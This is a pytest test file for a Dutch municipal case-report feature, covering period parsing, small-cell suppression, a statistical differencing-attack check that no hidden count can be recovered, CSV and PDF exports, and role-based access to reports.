"""The anonymous report for a municipality (``cases.reports``): periods on a
fixed grid, small-cell suppression over nested periods (and the differencing
attack on it), the numbers against a hand-computed fixture, whose cases a
reader's report counts, the CSV and PDF, and what a contract manager may read."""

from __future__ import annotations

import csv
import datetime
import io
import re
from fractions import Fraction
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.models import Municipality, Organisation, User
from cases.models import AccessLogEntry, OutreachVisit, ReportFigures, SupportCase
from cases.report_periods import (
    Period,
    PeriodError,
    ended_period,
    latest_ended,
    offered_periods,
    parse_period,
)
from cases.report_suppression import Layout, disclosed, suppress, suppress_periods
from cases.reports import (
    ALL_ORGANISATIONS,
    SMALL,
    Scope,
    municipal_report,
    refresh_report_figures,
    report_figures,
    report_layout,
    reportable_municipalities,
)
from tests.factories import (
    ClientFactory,
    MunicipalityFactory,
    OrganisationFactory,
    TeamFactory,
    account,
)

AMS = ZoneInfo("Europe/Amsterdam")
SMALL_TEXT = f"< {SMALL}"
YEAR_2025 = Period.whole_year(2025)

# --- suppress(): hand-computed ---------------------------------------------------


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        # Nothing small: nothing hidden.
        ([5, 9, 12], ["", "", ""]),
        # Two small cells hide each other: no complement needed.
        ([3, 1, 40], ["small", "small", ""]),
        # Zero is small too: "nobody" is not shown either.
        ([0, 7, 9], ["small", "complementary", ""]),
        # One small cell: the smallest other cell is hidden as well, else
        # 3 = 30 − 12 − 15 could be computed from the total.
        ([12, 3, 15], ["complementary", "small", ""]),
        # Equal candidates: the first of them.
        ([6, 2, 6, 9], ["complementary", "small", "", ""]),
        # The complement is the smallest, not the neighbour.
        ([50, 4, 30, 8, 20], ["", "small", "", "complementary", ""]),
        # Every cell small (total under 5 too).
        ([1, 2], ["small", "small"]),
        # A single-cell table equals its total; nothing to hide it with.
        ([3], ["small"]),
        ([], []),
    ],
)
def test_suppress(values, expected):
    """Counts under 5 are hidden, and a table never has exactly one hidden
    cell, so that no hidden count can be computed back from the shown total."""
    assert suppress(values) == expected


@pytest.mark.parametrize(
    "values",
    [[12, 3, 15], [0, 7, 9], [6, 2, 6, 9], [50, 4, 30, 8, 20], [5, 5, 4, 100]],
)
def test_no_table_has_a_single_hidden_cell(values):
    """With the total shown, a table has zero or at least two hidden cells."""
    hidden = sum(1 for reason in suppress(values) if reason)
    assert hidden == 0 or hidden >= 2


# --- periods on a fixed grid ------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "start", "end", "label"),
    [
        (
            "2026-03",
            datetime.date(2026, 3, 1),
            datetime.date(2026, 3, 31),
            "maart 2026",
        ),
        ("2024-02", datetime.date(2024, 2, 1), datetime.date(2024, 2, 29), None),
        ("2026-Q1", datetime.date(2026, 1, 1), datetime.date(2026, 3, 31), None),
        ("2025-Q4", datetime.date(2025, 10, 1), datetime.date(2025, 12, 31), None),
        ("2025", datetime.date(2025, 1, 1), datetime.date(2025, 12, 31), "2025"),
    ],
)
def test_period_keys_name_months_quarters_and_years(key, start, end, label):
    """A period key names one calendar month, quarter or year, first and last
    day included."""
    period = parse_period(key)
    assert (period.start, period.end, period.key) == (start, end, key)
    if label:
        assert period.label == label


@pytest.mark.parametrize(
    "key",
    [
        "",
        "abc",
        "2025-13",
        "2025-00",
        "2025-Q0",
        "2025-Q5",
        "2025-3",
        "1999",
        "2025-01-01",
        "2025-01-01..2025-01-31",
        "２０２５",
        "2025\x00",
    ],
)
def test_a_key_off_the_grid_is_refused(key):
    """Anything but a month, quarter or year key is an unknown period."""
    with pytest.raises(PeriodError, match="Onbekende periode"):
        parse_period(key)


def test_only_ended_periods_are_accepted():
    """A period is accepted from the day after its last day."""
    today = datetime.date(2026, 4, 1)
    assert ended_period("2026-03", today) == Period.month(2026, 3)
    assert ended_period("2026-Q1", today) == Period.quarter(2026, 1)
    for key in ("2026-04", "2026-Q2", "2026", "2027"):
        with pytest.raises(PeriodError, match="nog niet afgelopen"):
            ended_period(key, today)
    assert latest_ended("year", today) == Period.whole_year(2025)
    assert latest_ended("month", datetime.date(2026, 1, 5)) == Period.month(2025, 12)
    assert latest_ended("quarter", datetime.date(2026, 2, 5)) == Period.quarter(2025, 4)


def test_the_selector_offers_24_months_8_quarters_and_3_years():
    """The selector lists the last ended 24 months, 8 quarters and 3 years,
    newest first, and every one of them has ended."""
    today = datetime.date(2026, 12, 3)
    offered = offered_periods(today)
    assert [len(offered[k]) for k in ("month", "quarter", "year")] == [24, 8, 3]
    assert offered["month"][0].key == "2026-11"
    assert offered["month"][-1].key == "2024-12"
    assert offered["quarter"][0].key == "2026-Q3"
    assert offered["quarter"][-1].key == "2024-Q4"
    assert [p.key for p in offered["year"]] == ["2025", "2024", "2023"]
    assert all(p.ended(today) for ps in offered.values() for p in ps)


# --- suppression over nested periods: the differencing attack ----------------------


def _solver_determined(unknowns: list, equations: list[tuple[dict, Fraction]]) -> set:
    """The unknowns whose value follows from ``equations`` (sparse rows
    ``{unknown: coefficient}``), by exact Gaussian elimination over the
    rationals: written apart from ``cases.report_suppression.disclosed`` so
    that the test does not trust the code it checks."""
    pivots: dict = {}
    order: list = []
    for row, _rhs in equations:
        row = {k: Fraction(v) for k, v in row.items() if v}
        for var in order:
            if var in row:
                factor = row[var]
                for k, v in pivots[var].items():
                    row[k] = row.get(k, 0) - factor * v
                    if not row[k]:
                        del row[k]
        if not row:
            continue
        var = next(iter(row))
        pivot = row[var]
        pivots[var] = {k: v / pivot for k, v in row.items()}
        # Keep earlier pivot rows free of the new pivot variable.
        for other in order:
            if var in pivots[other]:
                factor = pivots[other][var]
                for k, v in pivots[var].items():
                    pivots[other][k] = pivots[other].get(k, 0) - factor * v
                    if not pivots[other][k]:
                        del pivots[other][k]
        order.append(var)
    # Fully reduced: an unknown is determined when its pivot row has no
    # other unknown in it.
    return {var for var in order if set(pivots[var]) == {var}} & set(unknowns)


def _attack(published: dict[Period, dict[str, int | None]], layout: Layout) -> set:
    """Every hidden cell (``None``) of ``published`` (every month, quarter and
    year of one year, as a reader can download them) that an attacker can
    compute from the published cells: any combination of a table's total
    minus its rows, a quarter minus its months, a year minus its quarters."""
    unknowns = [
        (p, k) for p, cells in published.items() for k, v in cells.items() if v is None
    ]
    hidden = set(unknowns)
    equations: list[tuple[dict, Fraction]] = []

    def term(p: Period, key: str, sign: int, row: dict) -> Fraction:
        if (p, key) in hidden:
            row[(p, key)] = row.get((p, key), 0) + sign
            return Fraction(0)
        return Fraction(-sign * published[p][key])

    for p in published:
        for table in layout.tables:
            row: dict = {}
            rhs = sum(term(p, k, 1, row) for k in table) + term(
                p, layout.total, -1, row
            )
            equations.append((row, rhs))
        for child_kind in ("children",):
            children = getattr(p, child_kind)
            if not children:
                continue
            for key in layout.keys:
                row = {}
                rhs = term(p, key, 1, row) + sum(
                    term(c, key, -1, row) for c in children
                )
                equations.append((row, rhs))
    return _solver_determined(unknowns, [(r, b) for r, b in equations if r])


def _publish(year: Period, cells: dict) -> dict[Period, dict[str, int | None]]:
    """What the reports of the year and of every quarter and month in it show."""
    return {
        p: {k: (None if reasons[k] else values[k]) for k in values}
        for p, (values, reasons) in cells.items()
    }


SMALL_LAYOUT = Layout(total="n", tables=(("a", "b", "c"), ("x", "y")), singles=("v",))


@st.composite
def _months(draw, layout: Layout, max_cases: int = 14):
    """Counts of twelve months that add up as ``layout`` says: per month a
    number of cases, each in one row of every table."""
    months = {}
    for period in YEAR_2025.months:
        n = draw(st.integers(0, max_cases))
        counts = dict.fromkeys(layout.keys, 0)
        counts[layout.total] = n
        for table in layout.tables:
            rows = draw(st.lists(st.sampled_from(table), min_size=n, max_size=n))
            for row in rows:
                counts[row] += 1
        for single in layout.singles:
            counts[single] = draw(st.integers(0, 9))
        months[period] = counts
    return months


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(months=_months(SMALL_LAYOUT))
def test_no_hidden_cell_follows_from_the_published_periods(months):
    """Whatever the counts, no combination of the published year, quarters
    and months of a year (year minus the published quarters, quarter minus
    the published months, total minus the other rows, and every mix of them)
    gives a hidden count; and the code's own check agrees."""
    cells = suppress_periods(YEAR_2025, months, SMALL_LAYOUT)
    assert _attack(_publish(YEAR_2025, cells), SMALL_LAYOUT) == set()
    assert disclosed(YEAR_2025, cells, SMALL_LAYOUT) == set()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(months=_months(report_layout(), max_cases=30))
def test_no_hidden_cell_follows_with_the_report_tables(months):
    """The same attack on the report's real tables (kind, subject, theme,
    provider, outcome) and outreach counts."""
    cells = suppress_periods(YEAR_2025, months, report_layout())
    assert _attack(_publish(YEAR_2025, cells), report_layout()) == set()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(months=_months(SMALL_LAYOUT))
def test_a_period_shows_the_same_whatever_longer_period_contains_it(months):
    """A month's and a quarter's cells are the same in their own report and
    inside the year's: what was published never changes when a longer
    period ends."""
    year = suppress_periods(YEAR_2025, months, SMALL_LAYOUT)
    for quarter in YEAR_2025.children:
        alone = suppress_periods(
            quarter, {m: months[m] for m in quarter.months}, SMALL_LAYOUT
        )
        assert alone == {p: year[p] for p in alone}
    for month in YEAR_2025.months:
        alone = suppress_periods(month, {month: months[month]}, SMALL_LAYOUT)
        assert alone[month] == year[month]


def test_the_attack_finds_the_hole_of_independent_suppression():
    """Without the rule for nested periods, each period suppressed on its own
    gives a month away: the quarter minus the two other months."""
    months = {m: dict.fromkeys(SMALL_LAYOUT.keys, 0) for m in YEAR_2025.months}
    for month, (a, b, c) in zip(
        YEAR_2025.months[:3], [(2, 9, 9), (9, 9, 9), (9, 9, 9)], strict=True
    ):
        months[month].update(n=a + b + c, a=a, b=b, c=c, x=a + b, y=c, v=5)
    quarter = YEAR_2025.children[0]
    naive = {}
    for period in [quarter, *quarter.months]:
        values = {
            k: sum(months[m][k] for m in period.months) for k in SMALL_LAYOUT.keys
        }
        reasons = dict.fromkeys(values, "")
        for table in SMALL_LAYOUT.tables:
            reasons.update(
                zip(table, suppress([values[k] for k in table]), strict=True)
            )
        naive[period] = (values, reasons)
    assert (quarter.months[0], "a") in _attack(_publish(quarter, naive), SMALL_LAYOUT)
    # With it, the quarter hides the cells that would give the month away.
    cells = suppress_periods(
        quarter, {m: months[m] for m in quarter.months}, SMALL_LAYOUT
    )
    assert cells[quarter][1]["a"] and cells[quarter][1]["b"]
    assert _attack(_publish(quarter, cells), SMALL_LAYOUT) == set()


def test_a_year_hides_what_its_quarters_would_give_away():
    """A year whose one quarter hides a row hides that row too: the year
    minus the other three quarters would give it."""
    months = {m: dict.fromkeys(SMALL_LAYOUT.keys, 0) for m in YEAR_2025.months}
    for i, month in enumerate(YEAR_2025.months):
        a = 3 if i == 4 else 10  # May: a is small
        months[month].update(n=a + 20, a=a, b=10, c=10, x=a + 10, y=10, v=6)
    cells = suppress_periods(YEAR_2025, months, SMALL_LAYOUT)
    q2, may = Period.quarter(2025, 2), Period.month(2025, 5)
    assert cells[may][1]["a"] == "small"
    assert cells[q2][1]["a"] == "inherited"
    assert cells[YEAR_2025][1]["a"] == "inherited"
    published = _publish(YEAR_2025, cells)
    assert published[YEAR_2025]["a"] is None
    assert _attack(published, SMALL_LAYOUT) == set()


# --- the hand-computed fixture -----------------------------------------------------


def _at(day: datetime.date, hour: int = 10, minute: int = 0) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour, minute), tzinfo=AMS)


@pytest.fixture
def fixture_2025(db):
    """25 cases opened in 2025 by 9 clients of Utrecht (one on 1 January, 23
    from 2 to 24 March, one on 31 December), and cases that must not count:
    before and after the year (by local time) and in another town.

    kind:     question 6, problem 5, complaint 7, mediation 2, care question 5
    subject:  jeugdhulp 15 (ambulant provider), jeugdbescherming 6 (GI), none 4
    theme:    bejegening 12, communicatie 8, none 5
    outcome:  resolved 7, not resolved 3 (durations 2, 4, …, 20 days), open 15

    The cases are of the AKJ's team "Regio Utrecht"; the team lead ``tl``
    leads it.
    """
    utrecht = MunicipalityFactory(name="Utrecht", cbs_code="GM0344")
    zwolle = MunicipalityFactory(name="Zwolle", cbs_code="GM0193")
    akj = OrganisationFactory(akj=True)
    team = TeamFactory(organisation=akj, name="Regio Utrecht")
    ambulant = OrganisationFactory(
        care_provider=True, provider_kind=Organisation.ProviderKind.AMBULANT
    )
    gi = OrganisationFactory(
        care_provider=True, provider_kind=Organisation.ProviderKind.CERTIFIED
    )
    actor = account("vp", User.Role.AKJ_CONFIDANT, akj, team=team, password_text=None)
    account("tl", User.Role.TEAM_LEAD, akj, leads=[team], password_text=None)
    clients = [ClientFactory(municipality=utrecht, organisation=akj) for _ in range(9)]
    kinds = ["question"] * 6 + ["problem"] * 5 + ["complaint"] * 7
    kinds += ["mediation"] * 2 + ["care_question"] * 5
    subjects = ["jeugdhulp"] * 15 + ["jeugdbescherming"] * 6 + [""] * 4
    themes = ["treatment"] * 12 + ["communication"] * 8 + [""] * 5
    outcomes = ["resolved"] * 7 + ["not_resolved"] * 3 + [""] * 15
    providers = {"jeugdhulp": ambulant, "jeugdbescherming": gi, "": None}

    # Cases by hand, not through ``case_open``: the figures count by the dates
    # a case was opened and closed in 2025, which the services set to now,
    # and a report reads no assignments or permission rows.
    def case(n, client, opened, **kw):
        return SupportCase.objects.create(
            reference=f"T-{n}",
            client=client,
            organisation=akj,
            team=team,
            title="Vraag",
            opened_at=opened,
            opened_by=actor,
            **kw,
        )

    for i in range(25):
        opened = _at(datetime.date(2025, 3, 1) + datetime.timedelta(days=i))
        if i == 0:  # 2024-12-31 23:10 UTC: in 2025 by Dutch time
            opened = _at(datetime.date(2025, 1, 1), 0, 10)
        if i == 24:
            opened = _at(datetime.date(2025, 12, 31), 23, 30)
        closed = {}
        if outcomes[i]:
            closed = {
                "status": "closed",
                "outcome": outcomes[i],
                "closed_at": opened + datetime.timedelta(days=2 * (i + 1)),
            }
        case(
            i,
            clients[i % 9],
            opened,
            kind=kinds[i],
            subject=subjects[i],
            provider=providers[subjects[i]],
            theme=themes[i],
            **closed,
        )
    # Not counted: outside the year (local time) or in another municipality.
    case(100, clients[0], _at(datetime.date(2024, 12, 31), 23, 50), kind="question")
    case(101, clients[1], _at(datetime.date(2026, 1, 1), 0, 5), kind="question")
    zwolle_client = ClientFactory(municipality=zwolle, organisation=akj)
    for n in range(102, 110):
        case(n, zwolle_client, _at(datetime.date(2025, 5, 1)), kind="complaint")
    return utrecht


def _table(report, key):
    table = next(t for t in report.tables if t.key == key)
    return [(c.value, c.reason) for c in table.cells], table


def test_report_numbers_match_the_hand_computed_fixture(fixture_2025):
    """The report of Utrecht for 2025 counts exactly the hand-counted cases,
    with every count under 5 hidden and one complementary cell."""
    report = municipal_report(municipality=fixture_2025, period=YEAR_2025)
    assert report.cases.value == 25
    assert report.clients.value == 9
    # Durations 2, 4, …, 20 days: the median is (10 + 12) / 2.
    assert report.median_days == pytest.approx(11)

    s, c = "small", "complementary"
    cells, kind = _table(report, "kind")
    # question, problem, complaint, mediation, care question: mediation (2)
    # alone is small, so the smallest other (problem, 5, before care question 5)
    # is hidden too.
    assert cells == [(6, ""), (None, c), (7, ""), (None, s), (5, "")]
    assert kind.total.value == 25
    assert [cell.display for cell in kind.cells] == [
        "6",
        "afgeschermd",
        "7",
        SMALL_TEXT,
        "5",
    ]
    cells, _t = _table(report, "subject")
    assert cells == [(15, ""), (6, ""), (None, s), (None, s)]
    cells, _t = _table(report, "theme")
    assert cells == [(12, ""), (8, "")] + [(None, s)] * 6 + [(5, "")]
    cells, _t = _table(report, "provider_kind")
    # ambulant, residential, certified, mental health, foster, other, none
    assert cells == [(15, ""), (None, s), (6, ""), *[(None, s)] * 4]
    cells, _t = _table(report, "outcome")
    # resolved, partially, not resolved (3), withdrawn, referred, still open
    assert cells == [(7, ""), *[(None, s)] * 4, (15, "")]


def test_small_totals_and_median_are_hidden(fixture_2025):
    """A period with fewer than 5 cases (January 2025: one) shows "< 5" for
    the total and the clients, and no median (fewer than 5 closed cases)."""
    report = municipal_report(municipality=fixture_2025, period=Period.month(2025, 1))
    assert report.cases.value is None and report.cases.display == SMALL_TEXT
    assert report.clients.display == SMALL_TEXT
    assert report.median_days is None
    for table in report.tables:
        assert all(cell.value is None for cell in table.cells)


def test_report_takes_a_bounded_number_of_queries(
    fixture_2025, django_assert_max_num_queries
):
    """One aggregate query grouped by month for every table, one for the
    clients, one for the median, one for outreach visits: no query, and no
    Python loop, per case."""
    with django_assert_max_num_queries(4):
        municipal_report(municipality=fixture_2025, period=YEAR_2025)


def test_no_published_report_of_the_year_gives_a_hidden_count_away(
    client, contract_manager
):
    """The attack over HTTP: download the CSV of 2025, of each of its quarters
    and of each of its months, and combine every published number (year minus
    quarters, quarter minus months, total minus rows): no hidden count of any
    of them follows."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal_csv", args=[contract_manager.organisation.municipality_id]
    )
    layout = report_layout()
    labels = _labels_to_keys()
    published: dict[Period, dict[str, int | None]] = {}
    periods = [YEAR_2025, *YEAR_2025.children, *YEAR_2025.months]
    for period in periods:
        response = client.get(url, {"period": period.key})
        assert response.status_code == 200, period
        rows = list(
            csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        )
        cells: dict[str, int | None] = {}
        for section, label, shown in rows:
            key = labels.get((section, label))
            if key is not None:
                cells[key] = int(shown) if shown.isdigit() else None
        assert set(cells) == set(layout.keys)
        published[period] = cells
    # The fixture's quiet months hide something, and the year still shows
    # its total and most of its rows.
    assert any(v is None for cells in published.values() for v in cells.values())
    assert published[YEAR_2025]["cases"] == 25
    assert published[YEAR_2025]["kind:question"] == 6
    assert _attack(published, layout) == set()


def _labels_to_keys() -> dict[tuple[str, str], str]:
    """(CSV section, row label) → count key of ``report_layout``."""
    from cases.reports import _count_key, _dimensions

    labels = {("Kerncijfers", "Zaken"): "cases"}
    for key, title, rows in _dimensions():
        for value, label, _q in rows:
            labels[(str(title), str(label))] = _count_key(key, value)
    labels[("Outreach", "Outreachbezoeken")] = "visits"
    labels[("Outreach", "Gesproken jongeren")] = "youths"
    return labels


# --- the pages -----------------------------------------------------------------------


@pytest.fixture
def contract_manager(fixture_2025) -> User:
    org = OrganisationFactory(municipal=True, municipality=fixture_2025)
    return account("cm", User.Role.CONTRACT_MANAGER, org, password_text=None)


def _numbers(text: str) -> list[str]:
    return re.findall(r"(?<![\w-])\d+(?![\w-])", text)


def test_page_shows_suppressed_cells_as_text(client, contract_manager):
    """The page shows "< 5" and "afgeschermd", a chart with a text alternative
    and a data table for each dimension; reading it writes no access-log row."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "&lt; 5" in html
    assert "afgeschermd" in html
    assert html.count('role="img"') == 5
    assert html.count("<desc") == 5
    assert AccessLogEntry.objects.count() == 0
    # Closed cases are not a figure of their own: 25 − 10 would give away the
    # "not yet closed" row, were it hidden.
    assert "Afgesloten zaken" not in html
    report = response.context["report"]
    assert report.cases.value == 25
    assert "Cijfers van alle organisaties voor gemeente Utrecht" in html


def test_the_period_selector_lists_ended_periods(client, contract_manager):
    """The page offers a selector of ended months, quarters and years, with
    the shown period selected."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    html = client.get(url, {"period": "2025-Q1"}).content.decode()
    today = timezone.localdate()
    offered = offered_periods(today)
    for periods in offered.values():
        for period in periods:
            assert f'value="{period.key}"' in html
    assert '<option value="2025-Q1" selected>' in html
    assert f'value="{today.year}"' not in html  # this year has not ended
    assert "<optgroup" in html


def test_without_a_period_the_last_ended_year_is_shown(client, contract_manager):
    """No ``period``: the last ended year; day ranges of old links are
    ignored, so consecutive end dates cannot be compared any more."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    last_year = Period.whole_year(timezone.localdate().year - 1)
    for query in ({}, {"start": "2025-03-01", "end": "2025-03-05"}):
        response = client.get(url, query)
        assert response.status_code == 200
        assert response.context["report"].period == last_year


@pytest.mark.parametrize(
    ("period", "message"),
    [
        ("abc", "Onbekende periode"),
        ("2025-13", "Onbekende periode"),
        ("2025-Q5", "Onbekende periode"),
        ("2025-03-01", "Onbekende periode"),
        ("1999", "Onbekende periode"),
        ("9999", "nog niet afgelopen"),
        ("this year", "Onbekende periode"),
    ],
)
def test_a_bad_period_is_a_message_next_to_the_selector(
    client, contract_manager, period, message
):
    """An unknown, malformed or not yet ended period is a Dutch message next
    to the period selector and no figures; the CSV and the PDF are 404."""
    client.force_login(contract_manager)
    pk = contract_manager.organisation.municipality_id
    if period == "this year":
        period = str(timezone.localdate().year)
        message = "nog niet afgelopen"
    response = client.get(
        reverse("web:report_municipal", args=[pk]), {"period": period}
    )
    assert response.status_code == 200
    assert response.context["report"] is None
    assert message in " ".join(response.context["form"].errors["period"])
    assert message in response.content.decode()
    assert "Kerncijfers" not in response.content.decode()
    for name in ("web:report_municipal_csv", "web:report_municipal_pdf"):
        assert (
            client.get(reverse(name, args=[pk]), {"period": period}).status_code == 404
        )


def test_this_month_and_quarter_are_not_yet_ended(client, contract_manager):
    """The running month and quarter are refused like the running year."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    today = timezone.localdate()
    for key in (
        Period.month(today.year, today.month).key,
        Period.quarter(today.year, (today.month - 1) // 3 + 1).key,
    ):
        response = client.get(url, {"period": key})
        assert response.context["report"] is None
        assert "nog niet afgelopen" in response.content.decode()


def test_csv_contains_no_suppressed_value(client, contract_manager):
    """The CSV has the same cells as the page; no hidden number is in it."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal_csv", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = [line.split(";") for line in text.splitlines()]
    by_label = {
        row[1]: row[2] for row in rows if len(row) == 3 and row[0] == "Soort zaak"
    }
    assert by_label["Vraag"] == "6"
    assert by_label["Probleem"] == "afgeschermd"
    assert by_label["Bemiddeling"] == SMALL_TEXT
    assert by_label["Totaal"] == "25"
    outcome = {row[1]: row[2] for row in rows if len(row) == 3 and row[0] == "Uitkomst"}
    assert outcome["Niet opgelost"] == SMALL_TEXT
    figures = {row[1]: row[2] for row in rows if len(row) == 3}
    assert figures["Mediane doorlooptijd (afgesloten zaken)"] == "11 dagen"
    assert figures["2025"] == "2025"  # the period
    assert (
        figures["Cijfers van alle organisaties voor gemeente Utrecht"] == ""
    )  # the scope
    # The only numbers in the rows of the kind table are the shown ones.
    kind_numbers = {
        v for row in rows if row[0] == "Soort zaak" for v in _numbers(row[2])
    }
    assert kind_numbers == {"6", "7", "5", "25"}
    assert "2" not in kind_numbers


def test_pdf_contains_no_suppressed_value(client, contract_manager):
    """The PDF is made from the same shown cells; its text has "< 5", says
    whose figures it holds, and has no hidden number for a hidden cell."""
    pypdf = pytest.importorskip("pypdf")

    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal_pdf", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    pdf = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    text = "".join(
        page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages
    )
    assert "< 5" in text
    assert "afgeschermd" in text
    assert "Bemiddeling: < 5" in text or "Bemiddeling < 5" in text
    assert "alle organisaties" in text


def test_pdf_is_a_pdf(client, contract_manager):
    """The PDF download is a PDF document named after the municipality and
    the period."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal_pdf", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025-Q1"})
    assert response.content.startswith(b"%PDF")
    assert "rapportage-GM0344-2025-Q1.pdf" in response["Content-Disposition"]


def test_contract_manager_cannot_read_another_municipality(client, contract_manager):
    """A contract manager reads only their own municipality: another one is 404
    on the page, the CSV and the PDF, as if it did not exist."""
    zwolle = Municipality.objects.get(cbs_code="GM0193")
    client.force_login(contract_manager)
    for name in (
        "web:report_municipal",
        "web:report_municipal_csv",
        "web:report_municipal_pdf",
    ):
        assert (
            client.get(reverse(name, args=[zwolle.pk]), {"period": "2025"}).status_code
            == 404
        )
    assert list(reportable_municipalities(contract_manager)) == [
        contract_manager.organisation.municipality
    ]


def test_contract_manager_of_no_municipality_reads_nothing(db):
    """A contract manager not working for a municipality reads no report."""
    user = User.objects.create_user(
        "cm2",
        role=User.Role.CONTRACT_MANAGER,
        organisation=OrganisationFactory(akj=True),
    )
    assert not reportable_municipalities(user).exists()


def test_report_page_query_count(
    client, contract_manager, django_assert_max_num_queries
):
    """The page takes a bounded number of queries, whatever the number of
    cases: when it counts the figures (and stores them), and fewer when it
    reads the stored ones."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    with django_assert_max_num_queries(12):
        assert client.get(url, {"period": "2025"}).status_code == 200
    with django_assert_max_num_queries(8):
        assert client.get(url, {"period": "2025"}).status_code == 200


def test_theme_can_be_chosen_when_opening_a_case(db):
    """The case-open form offers the themes; the service stores the one chosen."""
    from web.forms.clients import CaseOpenForm

    akj = OrganisationFactory(akj=True)
    user = User.objects.create_user(
        "vpx",
        role=User.Role.AKJ_CONFIDANT,
        organisation=akj,
        team=TeamFactory(organisation=akj),
    )
    form = CaseOpenForm(user=user)
    values = [value for value, _label in form.fields["theme"].choices]
    assert values == ["", *SupportCase.Theme.values]


# --- whose cases: the team lead's teams, or every organisation ----------------------


def _other_team_case(n: int = 800) -> SupportCase:
    """A 2025 question of a client of Utrecht, of another team of the AKJ."""
    akj = Organisation.objects.get(kind=Organisation.Kind.AKJ)
    team = TeamFactory(organisation=akj, name="Regio Noord")
    confidant = User.objects.create_user(
        f"vp{n}", role=User.Role.AKJ_CONFIDANT, organisation=akj, team=team
    )
    return SupportCase.objects.create(
        reference=f"T-{n}",
        client=ClientFactory(
            municipality=Municipality.objects.get(cbs_code="GM0344"), organisation=akj
        ),
        organisation=akj,
        team=team,
        title="Vraag",
        opened_at=_at(datetime.date(2025, 6, 1)),
        opened_by=confidant,
        kind="question",
    )


def test_team_lead_reads_where_their_teams_clients_live(client, fixture_2025):
    """A team lead reads the reports of the municipalities where clients of
    their teams' cases live; a team lead of an organisation without cases
    there reads none (404, also for the choice page)."""
    lead = User.objects.get(username="tl")
    assert set(reportable_municipalities(lead).values_list("cbs_code", flat=True)) == {
        "GM0344",
        "GM0193",
    }
    other_org = OrganisationFactory(client_support=True)
    other = User.objects.create_user(
        "tl2", role=User.Role.TEAM_LEAD, organisation=other_org
    )
    TeamFactory(organisation=other_org).leads.add(other)
    client.force_login(other)
    assert client.get(reverse("web:report_municipal_index")).status_code == 404
    url = reverse("web:report_municipal", args=[fixture_2025.pk])
    assert client.get(url).status_code == 404
    client.force_login(lead)
    response = client.get(reverse("web:report_municipal_index"))
    assert response.status_code == 200
    response = client.get(
        reverse("web:report_municipal_index"),
        {"municipality": fixture_2025.pk, "period": "2025"},
    )
    assert response.status_code == 302
    assert response["Location"] == f"{url}?period=2025"
    response = client.get(
        reverse("web:report_municipal_index"),
        {"municipality": fixture_2025.pk, "period": "2025-99"},
    )
    assert response.status_code == 200
    assert "Onbekende periode" in response.content.decode()


def test_a_team_lead_without_teams_reads_no_report(client, fixture_2025):
    """Reports follow the team: a team lead who leads no team reads none."""
    akj = Organisation.objects.get(kind=Organisation.Kind.AKJ)
    lead = User.objects.create_user("tl3", role=User.Role.TEAM_LEAD, organisation=akj)
    assert not reportable_municipalities(lead).exists()
    client.force_login(lead)
    assert client.get(reverse("web:report_municipal_index")).status_code == 404


def test_a_team_leads_report_counts_their_teams_and_says_so(client, contract_manager):
    """The team lead's report counts the cases of the teams they lead, not
    another team's of the same organisation, and says so on the page, in the
    CSV and in the PDF; the contract manager's counts every organisation."""
    _other_team_case()
    lead = User.objects.get(username="tl")
    pk = contract_manager.organisation.municipality_id
    client.force_login(lead)
    response = client.get(
        reverse("web:report_municipal", args=[pk]), {"period": "2025"}
    )
    assert response.context["report"].cases.value == 25
    assert "Cijfers van uw team: Regio Utrecht" in response.content.decode()
    csv_text = client.get(
        reverse("web:report_municipal_csv", args=[pk]), {"period": "2025"}
    ).content.decode("utf-8-sig")
    assert "Cijfers van;Cijfers van uw team: Regio Utrecht;" in csv_text
    client.force_login(contract_manager)
    response = client.get(
        reverse("web:report_municipal", args=[pk]), {"period": "2025"}
    )
    assert response.context["report"].cases.value == 26
    assert "alle organisaties voor gemeente Utrecht" in response.content.decode()
    # Stored apart: one row per scope.
    assert set(ReportFigures.objects.values_list("scope", flat=True)) == {
        "all",
        f"teams:{lead.led_teams.get().pk}",
    }


def test_a_team_lead_of_two_teams_counts_both(fixture_2025):
    """A team lead of two teams counts the cases of both."""
    case = _other_team_case()
    lead = User.objects.get(username="tl")
    case.team.leads.add(lead)
    from cases.reports import report_scope

    scope = report_scope(lead)
    assert [t.name for t in scope.teams] == ["Regio Noord", "Regio Utrecht"]
    report = municipal_report(municipality=fixture_2025, period=YEAR_2025, scope=scope)
    assert report.cases.value == 26
    assert report.scope_text == "Cijfers van uw teams: Regio Noord, Regio Utrecht"


@pytest.mark.parametrize(("visits", "shown"), [(6, "6"), (2, "< 5")])
